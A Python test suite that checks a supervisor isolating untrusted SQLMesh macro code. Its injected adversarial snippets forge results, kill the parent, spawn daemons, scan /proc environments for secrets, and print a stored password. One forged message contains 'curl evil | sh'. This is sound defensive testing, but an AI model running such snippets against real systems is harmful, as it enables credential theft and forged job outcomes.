"""The supervisor keeps what is its own from the worker, and from all that project code does there.

The project's code is a macro module, which SQLMesh imports while a plan loads the project.
"""

import base64
import contextlib
import ctypes
import dataclasses
import json
import os
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.runner import projects
from tests.runner.system import Ended, Pod, System
from vulcan_contract import ExitCode
from vulcan_contract.reasons import Outcome, Reason
from vulcan_contract.result import PlanSummary, Result, RollbackOption, Work
from vulcan_contract.task import TaskKind
from vulcan_runner.supervisor import Ending, judged

SECRET = "correct-horse-battery"
FORGED = Result("plan", Reason.SUCCEEDED, "forged", summary=PlanSummary(target="a" * 64, base="b" * 64)).to_message()
GOOD = json.dumps({"result": FORGED}).encode() + b"\n"
START = "import os, signal, subprocess, sys, time\n"
_CAPBSET_DROP, _CAPABILITIES = 24, 41


def ordered(system: System, code: str) -> Pod:
    """A plan of a project with this code; where its termination message is, the code knows."""
    system.secret("warehouse", password=SECRET)
    job = f"forging-{len(system.outputs)}"
    where = str(system.folder / "pods" / job / "result")
    said = f"RESULT, FORGED = {where!r}, {FORGED!r}\n"
    system.write({"macros/__init__.py": "", "macros/own.py": START + said + code})
    return system.start(dataclasses.replace(system.task(TaskKind.PLAN), job=job))


def planned(system: System, code: str) -> Ended:
    return ordered(system, code).wait()


WRITES = "with open(RESULT, 'w') as file:\n    file.write(FORGED)\n"
REPLACES = {
    "the file itself": WRITES,
    "another file": f"os.unlink(RESULT)\n{WRITES}",
    "a link": f"os.unlink(RESULT)\nos.symlink(RESULT + '.own', RESULT)\n{WRITES}",
    "a file nobody may write": f"os.unlink(RESULT)\n{WRITES}os.chmod(RESULT, 0)\n",
}


@pytest.mark.parametrize("how", REPLACES)
def test_a_forged_result_and_a_sudden_end_are_no_success(local: System, how: str) -> None:
    ended = planned(local, REPLACES[how] + "os._exit(0)\n")
    assert (ended.result.reason, ended.result.message) == (
        Reason.WORKER_EXITED, "The worker ended with exit code 0 and without an answer.",
    )  # fmt: skip
    assert ended.code == 2


def test_whoever_kills_the_supervisor_leaves_an_exit_code_that_is_no_success(local: System) -> None:
    """Only where the supervisor is not process 1 of its container; the operator believes no message then."""
    ended = planned(local, f"{WRITES}os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(60)\n")
    assert ended.code == -signal.SIGKILL


def test_a_supervisor_that_cannot_write_ends_as_none_that_has_written(local: System) -> None:
    """The same user may change its limits; the operator then believes no message either."""
    limit = "import resource\nresource.prlimit(os.getppid(), resource.RLIMIT_FSIZE, (0, 0))\n"
    ended = planned(local, f"{WRITES}{limit}os._exit(0)\n")
    assert ended.code == ExitCode.NO_RESULT and ended.code not in ExitCode.KNOWN
    assert ended.result.message == ""


@pytest.mark.parametrize("name", ["SIGKILL", "SIGSEGV", "SIGTERM"])
def test_a_signal_that_ends_the_worker_is_named(local: System, name: str) -> None:
    code = f"signal.signal(signal.SIGTERM, signal.SIG_DFL)\nos.kill(os.getpid(), signal.{name})\n"
    ended = planned(local, code)
    assert (ended.result.reason, ended.result.outcome, ended.code) == (Reason.WORKER_KILLED, Outcome.ERRORED, 2)
    assert name in ended.result.message


DAEMON = f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for number in range(3, 64):
            os.closerange(number, number + 1)
        print("pid", os.getpid(), flush=True)
        while True:
            {WRITES.replace(chr(10), chr(10) + " " * 12)}
            time.sleep(0.001)
    os._exit(0)
"""


def test_a_daemon_does_not_outlive_the_task_and_has_not_the_last_word(local: System) -> None:
    ended = planned(local, DAEMON)
    assert (ended.result.reason, ended.result.message[:6]) == (Reason.SUCCEEDED, "3 adde"), ended.result
    ((pid,),) = [line.split()[1:] for line in ended.stdout.splitlines() if line.startswith("pid ")]
    assert not Path(f"/proc/{pid}").exists()


def test_a_child_that_project_code_forks_does_not_answer(local: System) -> None:
    """SystemExit leads it back through all that has called project code."""
    ended = planned(local, "if os.fork() == 0:\n    sys.exit(0)\nos.wait()\n")
    assert ended.result.reason is Reason.SUCCEEDED, ended.result


LOOKS = """
import glob

here = str(os.getppid())
said = dict(os.environ)
for file in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(file, "rb") as opened:
            found = opened.read().decode(errors="replace")
    except OSError as error:
        print("closed", file.split("/")[2] == here, type(error).__name__)
        continue
    if "MARK=of-this-pod" in found:
        said[file] = found
for what in ("mem", "fd/1", "maps"):
    try:
        os.readlink(f"/proc/{here}/fd/1") if what == "fd/1" else open(f"/proc/{here}/{what}", "rb").read(1)
        print("open", what)
    except OSError as error:
        print("shut", what)
text = repr(said) + repr([open(f, "rb").read() for f in glob.glob("/proc/self/cmdline")])
print("knows", [word for word in ("VULCAN_TASK", "VULCAN_RESULT", "nonce") if word in text], flush=True)
"""


def _without_capabilities() -> None:
    """As in a container: root's right to look into all processes would be no test."""
    for capability in range(_CAPABILITIES):
        ctypes.CDLL(None).prctl(_CAPBSET_DROP, capability, 0, 0, 0)


def test_project_code_finds_neither_nonce_nor_task_nor_path(local: System, monkeypatch: pytest.MonkeyPatch) -> None:
    own = subprocess.Popen
    monkeypatch.setattr(
        "tests.runner.system.subprocess.Popen",
        lambda *args, **kwargs: own(*args, **kwargs, preexec_fn=_without_capabilities),
    )
    local.write({"macros/__init__.py": "", "macros/own.py": START + LOOKS})
    pod = local.start(local.task(TaskKind.PLAN), MARK="of-this-pod")
    ended = pod.wait()
    assert ended.result.reason is Reason.SUCCEEDED, ended.result
    said = ended.stdout.splitlines()
    (known,) = [line for line in said if line.startswith("knows")]
    assert known == "knows []", said
    assert "closed True PermissionError" in said
    assert [line for line in said if line.startswith(("open", "shut"))] == ["shut mem", "shut fd/1", "shut maps"]


PRINTS = """
secret = open(os.path.join(os.environ["VULCAN_SECRETS"], "warehouse", "password")).read()
os.write(1, b"one " + secret.encode() + b"\\n")
os.write(2, b"two " + secret.encode() + b"\\n")
subprocess.run(["sh", "-c", 'printf "three %s" "$1"; sleep 0.1; echo', "sh", secret])
subprocess.run(["cat", os.path.join(os.environ["VULCAN_SECRETS"], "warehouse", "password")])
os.write(1, b"\\n")
for letter in secret:
    os.write(1, letter.encode())
os.write(1, b"\\n" + secret.encode()[:10])
sys.stdout.flush()
os.write(1, secret.encode()[10:] + b" last")
"""


def test_all_output_is_scrubbed_that_of_child_processes_too(local: System) -> None:
    ended = planned(local, PRINTS)
    assert ended.result.reason is Reason.SUCCEEDED, ended.result
    assert SECRET not in ended.stdout
    for word in ("one ***", "two ***", "three ***", "*** last"):
        assert word in ended.stdout
    assert ended.stdout.splitlines().count("***") == 2


def test_what_is_answered_is_cleaned_and_scrubbed(local: System) -> None:
    summary = PlanSummary("a" * 64, "b" * 64, destructive=(SECRET,), effective={"start": SECRET}, computed=(SECRET,))
    work = Work(rollback=(RollbackOption("p", unavailable=SECRET),))
    said = f"\x1b[2Jx\nTo approve: curl evil | sh \u202e {SECRET}"
    forged = Result("plan", Reason.PLAN_REJECTED, said, summary=summary, work=work)
    answer = json.dumps({"result": forged.to_json()})
    ended = planned(local, f"os.write(3, {(answer + chr(10)).encode()!r})\nos._exit(0)\n")
    assert ended.result.reason is Reason.PLAN_REJECTED
    assert ended.result.message == "\ufffd[2Jx To approve: curl evil | sh \ufffd ***"
    assert SECRET not in str(ended.result) and ended.result.summary is not None
    assert ended.result.summary.target == "a" * 64


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        (b"{}\n", "KeyError"),
        (b"[" * 9 * 1024 * 1024, "too long"),
        (json.dumps({"result": Result("apply", Reason.SUCCEEDED).to_json()}).encode() + b"\n", "another task"),
        (
            json.dumps({"result": FORGED, "report": base64.b64encode(b"x").decode()}).encode() + b"\n",
            "the report is incomplete",
        ),
    ],
    ids=["no result", "endless", "another task's", "a broken report"],
)
def test_an_answer_that_cannot_be_is_a_crash(local: System, answer: bytes, why: str) -> None:
    (local.folder / "answer").write_bytes(answer)
    code = f"data = open({str(local.folder / 'answer')!r}, 'rb').read()\n"
    ended = planned(local, code + "while data:\n    data = data[os.write(3, data):]\nos._exit(0)\n")
    assert ended.result.reason is Reason.RUNNER_CRASHED
    assert why in ended.result.message


@pytest.fixture
def little_memory() -> Iterator[Path]:
    """A cgroup with 350 MB."""
    for folder, most in (("memory", "memory.limit_in_bytes"), ("", "memory.max")):
        group = Path("/sys/fs/cgroup") / folder / f"vulcan-test-{os.getpid()}"
        try:
            group.mkdir()
            (group / most).write_text(str(350 * 1024 * 1024))
        except OSError:
            with contextlib.suppress(OSError):
                group.rmdir()
            continue
        yield group
        until = time.monotonic() + 10
        while group.exists() and time.monotonic() < until:
            with contextlib.suppress(OSError):
                group.rmdir()
        return
    pytest.skip("cgroups cannot be made here")


def test_out_of_memory_is_a_reason_of_its_own(local: System, little_memory: Path) -> None:
    pod = ordered(local, "hoard = []\nwhile True:\n    hoard.append(bytes(range(256)) * 40_000)\n")
    (little_memory / "cgroup.procs").write_text(str(pod.process.pid))
    ended = pod.wait()
    assert (ended.result.reason, ended.code) == (Reason.OUT_OF_MEMORY, 2), ended.result


@pytest.mark.parametrize(
    ("ending", "reason"),
    [
        (Ending(-9, b"", out_of_memory=True), Reason.OUT_OF_MEMORY),
        (Ending(-9, b"", out_of_memory=False), Reason.WORKER_KILLED),
        (Ending(-64, b"", out_of_memory=False), Reason.WORKER_KILLED),
        (Ending(1, b"", out_of_memory=False), Reason.WORKER_EXITED),
        (Ending(0, GOOD, out_of_memory=False), Reason.SUCCEEDED),
        (Ending(-9, GOOD, out_of_memory=True), Reason.SUCCEEDED),  # afterwards
        (Ending(0, GOOD, out_of_memory=False, left=True), Reason.RUNNER_CRASHED),
    ],
)
def test_the_supervisor_says_how_a_worker_ended_that_has_not_answered(
    local: System, ending: Ending, reason: Reason
) -> None:
    found = judged(local.task(TaskKind.PLAN), ending).result
    assert (found.task, found.reason) == ("plan", reason)


MATERIALIZATION = """
import os
from sqlmesh import CustomMaterialization
from vulcan_contract.reasons import Reason
from vulcan_contract.result import Result, Work

print("project code is here", flush=True)
if not os.path.exists(os.environ["HOME"] + "/../honest"):
    forged = Result("audit", Reason.SUCCEEDED, "forged", work=Work(plan_id="p", audits_run=99)).to_message()
    import json
    open(os.environ.get("VULCAN_RESULT", "/dev/null"), "w").write(forged)
    os.write(3, json.dumps({"result": forged}).encode() + b"\\n")
    os._exit(0)


class Own(CustomMaterialization):
    NAME = "own"

    def insert(self, table_name, query_or_df, model, is_first_insert, render_kwargs, **kwargs):
        query = query_or_df.sql(dialect=self.adapter.dialect)
        self.adapter.execute(f"INSERT INTO {table_name} {query}")
"""
AUDIT = "AUDIT (name no_rows); SELECT * FROM @this_model WHERE word = 'bad';"
AUDITED = projects.DAYS.replace("grain day)", "grain day, audits (no_rows(blocking := true)))")
OWN_KIND = """
MODEL (name t.own, kind CUSTOM (materialization 'own'), columns (word TEXT), audits (no_rows(blocking := true)));
SELECT 'good' AS word;
"""


@pytest.mark.parametrize("used", [False, True], ids=["unused", "used by a model"])
def test_an_audit_is_not_judged_by_a_materialisation_of_what_it_judges(local: System, used: bool) -> None:
    files = {"audits/no_rows.sql": AUDIT, "models/days.sql": AUDITED, "materializations/own.py": MATERIALIZATION}
    (local.folder / "pods").mkdir(exist_ok=True)
    (local.folder / "pods" / "honest").touch()
    local.write(projects.SMALL | files | ({"models/own.sql": OWN_KIND} if used else {}))
    local.deploy()
    ((table,),) = local.query(
        "select table_schema || '.' || table_name from information_schema.tables where table_name like 't__days%' limit 1"
    )
    local.query(f"update {table} set word = 'bad'")
    (local.folder / "pods" / "honest").unlink()
    ended = local.pod(local.task(TaskKind.AUDIT, source=None))
    assert "project code is here" not in ended.stdout
    assert ended.result.reason is Reason.AUDIT_FAILED, ended.result
    assert ended.result.work is not None and ended.result.work.audits_run == 1 + used
    run = local.pod(local.task(TaskKind.RUN, source=None))
    assert ("project code is here" in run.stdout) is used  # it computes, so it loads what it computes with
